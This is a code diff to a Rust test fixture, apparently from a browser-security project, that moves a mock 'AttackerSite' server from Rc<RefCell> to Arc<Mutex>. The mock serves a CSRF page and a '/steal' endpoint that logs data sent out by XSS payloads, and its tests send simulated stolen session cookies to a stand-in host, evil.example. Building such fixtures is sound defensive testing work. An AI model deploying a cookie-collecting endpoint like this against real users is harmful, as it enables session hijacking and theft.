@@ -4,9 +4,8 @@
 //! application (an auto-loading `img` or a form ready to be auto-submitted), and a
 //! `/steal` endpoint that records data exfiltrated by XSS payloads (stolen cookies).
 
-use std::cell::RefCell;
 use std::fmt;
-use std::rc::Rc;
+use std::sync::{Arc, Mutex};
 
 use escudo_net::{Request, Response, Server, StatusCode};
 
@@ -32,14 +31,14 @@ pub enum CsrfVector {
 pub struct AttackerSite {
     /// The CSRF page body served at `/csrf`.
     vector: Option<CsrfVector>,
-    stolen: Rc<RefCell<Vec<String>>>,
+    stolen: Arc<Mutex<Vec<String>>>,
 }
 
 impl fmt::Debug for AttackerSite {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         f.debug_struct("AttackerSite")
             .field("vector", &self.vector)
-            .field("stolen", &self.stolen.borrow().len())
+            .field("stolen", &self.stolen.lock().expect("app state lock").len())
             .finish()
     }
 }
@@ -50,7 +49,7 @@ impl AttackerSite {
     pub fn new() -> Self {
         AttackerSite {
             vector: None,
-            stolen: Rc::new(RefCell::new(Vec::new())),
+            stolen: Arc::new(Mutex::new(Vec::new())),
         }
     }
 
@@ -59,14 +58,14 @@ impl AttackerSite {
     pub fn with_csrf(vector: CsrfVector) -> Self {
         AttackerSite {
             vector: Some(vector),
-            stolen: Rc::new(RefCell::new(Vec::new())),
+            stolen: Arc::new(Mutex::new(Vec::new())),
         }
     }
 
     /// A handle to the exfiltration log (query strings received at `/steal`).
     #[must_use]
-    pub fn stolen(&self) -> Rc<RefCell<Vec<String>>> {
-        Rc::clone(&self.stolen)
+    pub fn stolen(&self) -> Arc<Mutex<Vec<String>>> {
+        Arc::clone(&self.stolen)
     }
 
     fn csrf_page(&self) -> String {
@@ -107,7 +106,8 @@ impl Server for AttackerSite {
             "/" | "/csrf" => Response::ok_html(self.csrf_page()),
             "/steal" => {
                 self.stolen
-                    .borrow_mut()
+                    .lock()
+                    .expect("app state lock")
                     .push(request.url.query().to_string());
                 Response::ok_text("thanks")
             }
@@ -147,8 +147,8 @@ mod tests {
         let stolen = site.stolen();
         site.handle(&Request::get("http://evil.example/steal?c=phpbb2mysql_sid%3Dabc").unwrap());
         site.handle(&Request::get("http://evil.example/steal?c=second").unwrap());
-        assert_eq!(stolen.borrow().len(), 2);
-        assert!(stolen.borrow()[0].contains("phpbb2mysql_sid"));
+        assert_eq!(stolen.lock().expect("app state lock").len(), 2);
+        assert!(stolen.lock().expect("app state lock")[0].contains("phpbb2mysql_sid"));
         assert_eq!(
             site.handle(&Request::get("http://evil.example/other").unwrap())
                 .status,
